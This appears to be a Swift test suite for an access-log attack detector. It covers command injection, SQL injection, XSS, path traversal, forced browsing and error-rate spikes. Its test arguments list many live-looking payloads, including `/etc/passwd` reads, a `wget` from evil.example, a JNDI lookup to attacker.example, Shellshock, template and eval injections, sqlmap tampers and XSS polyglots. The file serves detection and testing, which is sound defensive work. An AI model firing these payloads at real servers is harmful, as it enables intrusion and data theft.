import Testing
@testable import SecIssueKit
@testable import SecIssueTelemetry

/// The evidence the detectors find in a raw target, after the quick scan.
private func detections(_ target: String) -> Detections {
    var scanner = AttackScanner()
    return Array(target.utf8).withUnsafeBufferPointer { AttackScanner.mayHoldAttack($0) ? scanner.detections($0) : Detections() }
}

private func reason(_ target: String, _ kind: AttackKinds) -> String? {
    var scanner = AttackScanner()
    return Array(target.utf8).withUnsafeBufferPointer { raw -> String? in
        guard AttackScanner.mayHoldAttack(raw), let evidence = scanner.detections(raw)[kind] else { return nil }
        return scanner.reason(evidence)
    }
}

private func line(_ target: String, agent: String = "-", client: String = "10.0.0.9", second: Int = 0, status: Int = 200) -> String {
    let stamp = "27/Nov/2026:08:\(second / 60 < 10 ? "0" : "")\(second / 60):\(second % 60 < 10 ? "0" : "")\(second % 60) +0000"
    return "\(client) - - [\(stamp)] \"GET \(target) HTTP/1.1\" \(status) 5 \"-\" \"\(agent)\""
}

@Suite("command injection (cmdi)")
struct CommandInjectionTests {
    @Test("separators with commands, substitution, line breaks, Shellshock and template or eval payloads", arguments: [
        "/ping?host=127.0.0.1;id", "/ping?host=127.0.0.1%3Bcat%20/etc/passwd", "/ping?host=1|whoami", "/ping?host=x%7C%7Cuname%20-a",
        "/ping?host=1%26%26sleep%205", "/ping?host=127.0.0.1%20%26%26%20echo%20vulnerable", "/ping?host=%60id%60", "/s?q=1%60cat%20/etc/passwd%60",
        "/s?q=%24(whoami)", "/s?q=%24(sleep%2010)", "/ping?host=127.0.0.1%0Aid", "/ping?host=x%0acat%20%2Fetc%2Fpasswd",
        "/ping?host=1;cat$IFS/etc/passwd", "/ping?host=1%3B%7Bcat%2C%2Fetc%2Fpasswd%7D", "/ping?host=1;%20wget%20http://evil.example/x.sh",
        "/ping?host=1;nslookup%20attacker.example", "/ping?host=1|net%20user", "/p?id=%22%7C%20ps%20aux%20%23", "/p?x=;%20whoami;",
        "/cgi-bin/x?a=()%20%7B%20:;%20%7D;%20/bin/bash%20-c%20id", "/render?tpl=%7B%7B7*7%7D%7D", "/render?tpl=%24%7B7*7%7D",
        "/render?tpl=%3C%25%3D%207*7%20%25%3E", "/render?tpl=%7B%7Bconfig.items()%7D%7D", "/render?tpl=%7B%7B%27%27.__class__.__mro__%7D%7D",
        "/s?q=%24%7Bjndi:ldap://attacker.example/a%7D", "/s?q=%24%7BT(java.lang.Runtime).getRuntime().exec(%27id%27)%7D",
        "/s?q=system(%27id%27)", "/s?q=eval(base64_decode(%27ZWNobyAxOw==%27))", "/s?q=__import__(%27os%27).system(%27id%27)",
        "/s?q=%3C?php%20system($_GET[c]);%20?%3E", "/d?file=/../../../bin/id|",
    ])
    func attacks(target: String) {
        #expect(detections(target).commandInjection != nil, "\(target)")
    }

    @Test("prose and code with shell-looking characters raise nothing", arguments: [
        "Q&A; cat videos", "cats | dogs", "rock & roll", "AT&T; news", "$(money) talks", "salt & pepper; sleep well",
        "use `ls -la` to list files", "ping pong table", "id card holder", "whoami song lyrics", "echo dot", "curl hair tutorial",
        "{{name}} template", "${HOME} variable bash", "eval function javascript", "python eval() danger", "function() { return }",
        "a || b in python", "true && false", "cost: $(15)", "rsync -av src/ dst/", "vs code ; shortcut", "he said \"yes\"; she left",
    ])
    func prose(text: String) {
        let target = "/search?q=" + (text.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? text)
        #expect(detections(target).isEmpty, "\(text)")
    }

    @Test("Shellshock in the User-Agent files a cmdi observation with its reason; one in a target too")
    func shellshockHeader() throws {
        let log = [line("/cgi-bin/status.cgi", agent: "() { :; }; /bin/bash -c 'id'"), line("/", agent: "Mozilla/5.0 (X11; Linux) {x}")]
        let observations = try ingestAccessLog(log.joined(separator: "\n") + "\n").observations
        #expect(observations.map(\.rule) == ["cmdi"])
        #expect(observations.first?.reason?.contains("Shellshock") == true)
        #expect(observations.first?.cwe == 78)
        #expect(observations.first?.title == "Command injection attempts on /cgi-bin/status.cgi")
    }
}

@Suite("SQL injection and XSS: new shapes, probes and false alarms")
struct DetectionGapTests {
    @Test("sqlmap tampers and classic payloads the first rules missed", arguments: [
        "/p?id=1%20AND%205432%20BETWEEN%205432%20AND%205432", "/p?id=1%20AND%205432%20NOT%20BETWEEN%200%20AND%205431",
        "/p?id=1%20UNION%23abcd%0ASELECT%201,2", "/p?id=1%20union--x%0Aselect%201,2", "/p?id=x%27%20or%20true--",
        "/p?user=admin%27%20or%201%23", "/p?id=%26%23x31%3B%26%23x25%3B%26%23x32%3B%26%23x37%3B%26%23x20%3B%26%23x41%3B%26%23x4e%3B%26%23x44%3B%26%23x20%3B%26%23x31%3B%26%23x3d%3B%26%23x31%3B%26%23x2d%3B%26%23x2d%3B%26%23x20%3B",
        "/p?q=%s%h%o%e%s%%27%20%A%N%D%20%1%3%9%7%%3D%1%3%9%7%%23", "/p?id=1%201.e)%20AND%20!GET_LOCK%201.e(%27x%27%201.e,5%201.e)%23",
        "/p?id=1e0UNION%20ALL%20SELECT%20NULL", "/p?id=IIF(5357%20LIKE%207192,5357,1/0)", "/p?id=1%20AND%20!SLEEP(1)",
        "/p?id=%27%20or%20username%20like%20%27%25", "/p?id=%27or%20select%20*", "/p?id=--sp_password",
    ])
    func sqlInjection(target: String) {
        let found = detections(target).sqlInjection
        #expect(found != nil && found?.probe == false, "\(target)")
    }

    @Test("values made only of SQL metacharacters are probes: reported at low severity", arguments: [
        "/p?id=%27", "/p?id=1%27", "/p?id=%22", "/p?id=1)", "/p?id=--", "/p?id=1--", "/p?id=%27)", "/p?id=%3D%20%3B", "/p?id=%27sqlattempt1",
    ])
    func probes(target: String) throws {
        #expect(detections(target).sqlInjection?.probe == true, "\(target)")
        let observation = try #require(try ingestAccessLog(line(target) + "\n").observations.first)
        #expect(observation.severity == .low && observation.title == "SQL injection probes on /p")
        #expect(observation.reason?.hasPrefix("probe: ") == true)
    }

    @Test("XSS: UTF-7 tags, filter locators, javascript: polyglots in redirect parameters", arguments: [
        "/s?q=+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "/s?q=%2BADw-img%20src=x%20onerror=alert(1)%2BAD4-", "/s?q=+ADwAcwBjAHIAaQBwAHQAPg-",
        "/s?q=%27%27;!--%22%3CXSS%3E=%26%7B()%7D", "/s?q=%3Cxss%3E",
        "/login?next=jaVasCript:/*-/*%60/*%5C%60/*%27/*%22/**/(/*%20*/oNcliCk=alert()%20)//",
        "/login?next=javascript:/*--%3E%3C/title%3E%3C/style%3E%3Csvg/onload=%27%2B/%22/%2B/onmouseover=1/%2B/[*/[]/%2Balert(1)//%27%3E",
        "/login?next=javascript://%0aalert(1)",
    ])
    func crossSiteScripting(target: String) {
        #expect(detections(target).crossSiteScripting != nil, "\(target)")
    }

    @Test("search text with SQL words, man pages and Windows file names raise nothing", arguments: [
        "union meeting minutes select committee", "minutes of the union: select a chair from members", "credit union select savings",
        "select union jack from flags shop", "printf(3)", "sleep(3)", "man 3 sleep", "strcpy(3) man page", "char(3) in C", "open(2) flags",
        "benchmark(5) results", "what is win.ini", "win.ini missing after update", "restore boot.ini windows xp",
        "c:\\windows\\system32\\drivers\\etc\\hosts location", "where is c:\\windows\\win.ini", "windows/system32 folder too big",
        "system.ini explained", "what does 'or 1=1' mean", "1<2 and 3>2", "1 or 2 bedrooms", "true or false quiz", "between 5 and 10 dollars",
        "6' ladder", "5' 10\" tall", "C#", "item #5", "k-pop -- best of", "O'Reilly books", "email me (later)",
    ])
    func falseAlarms(text: String) {
        for encoded in [text.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? text,
                        text.replacingOccurrences(of: " ", with: "+")] {
            let target = "/search?q=" + encoded
            #expect(detections(target).isEmpty, "\(text) → \(target)")
        }
    }

    @Test("every decision names its reason and the decoded tokens around it")
    func reasons() {
        #expect(reason("/p?id=1%27%20OR%20%271%27%3D%271", .sqlInjection) == "and/or with a comparison that needs no table: \"/p?id=1' or '1'='1\"")
        #expect(reason("/p?id=1%20AND%20SLEEP(5)", .sqlInjection)?.hasPrefix("sleep() in an expression: ") == true)
        #expect(reason("/s?q=%3Csvg/onload=alert(1)%3E", .crossSiteScripting)?.hasPrefix("a tag that runs script: ") == true)
        #expect(reason("/ping?host=1;id", .commandInjection) == "a ; followed by a shell command: \"/ping?host=1;id\"")
        #expect(reason("/ping?host=1%0Aid", .commandInjection) == "a line break followed by a shell command: \"/ping?host=1\\x0aid\"")
        #expect(reason("/d?file=../../etc/passwd", .pathTraversal)?.hasPrefix("two .. segments in a row: ") == true)
    }
}

@Suite("reconnaissance: sweeps per client and the site's error rate")
struct ReconTests {
    @Test("one client answered 404 on 20 distinct routes in a window is forced browsing, under the directory they share")
    func forcedBrowsing() throws {
        var lines = (0..<25).map { line("/admin/page\($0).php", client: "10.1.1.1", second: $0, status: 404) }
        // Many visitors each missing the same favicon: no sweep.
        lines += (0..<40).map { line("/favicon.ico", client: "192.168.0.\($0)", second: $0, status: 404) }
        let observations = try ingestAccessLog(lines.joined(separator: "\n") + "\n").observations.filter { $0.rule == "forced-browsing" }
        #expect(observations.count == 1)
        let sweep = try #require(observations.first)
        #expect(sweep.resource == "/admin/" && sweep.source == "10.1.1.1" && sweep.count == 25 && sweep.cwe == 425)
        #expect(sweep.line == 20, "reported at the line where the twentieth distinct route was reached")
        #expect(sweep.reason?.contains("20 distinct routes") == false && sweep.reason?.contains("25 distinct routes") == true)
    }

    @Test("19 routes, or 20 spread over two windows, are no sweep; the threshold comes from the policy")
    func belowThreshold() throws {
        let few = (0..<19).map { line("/x\($0)", client: "10.1.1.1", second: $0, status: 404) }
        #expect(try ingestAccessLog(few.joined(separator: "\n") + "\n").observations.allSatisfy { $0.rule != "forced-browsing" })
        let split = (0..<20).map { line("/x\($0)", client: "10.1.1.1", second: 50 + $0, status: 404) }
        #expect(try ingestAccessLog(split.joined(separator: "\n") + "\n").observations.allSatisfy { $0.rule != "forced-browsing" })
        var policy = TelemetryPolicy()
        policy.clientPaths4xx = 5
        let five = (0..<5).map { line("/x\($0)", client: "10.1.1.1", second: $0, status: 403) }
        #expect(try ingestAccessLog(five.joined(separator: "\n") + "\n", policy: policy).observations.contains { $0.rule == "forced-browsing" })
    }

    @Test("a window whose 4xx share is four times the log's median raises http-4xx-rate; the usual share does not")
    func errorRate() throws {
        var lines: [String] = []
        // Ten minutes of 100 requests, 5 of them 404; in minute 6, 60 of the 100 are 404s from many clients.
        for minute in 0..<10 {
            for request in 0..<100 {
                let failing = minute == 6 ? request < 60 : request < 5
                lines.append(line(failing ? "/missing\(request % 3)" : "/", client: "192.168.\(minute).\(request)",
                                  second: minute * 60 + request % 60, status: failing ? 404 : 200))
            }
        }
        let rates = try ingestAccessLog(lines.joined(separator: "\n") + "\n").observations.filter { $0.rule.hasSuffix("-rate") }
        #expect(rates.map(\.rule) == ["http-4xx-rate"])
        #expect(rates.first?.resource == "/" && rates.first?.count == 60)
        #expect(rates.first?.sample.contains("60 of 100 responses were 4xx (60.0%)") == true)
        #expect(rates.first?.sample.contains("median is 5.0%") == true)
    }
}
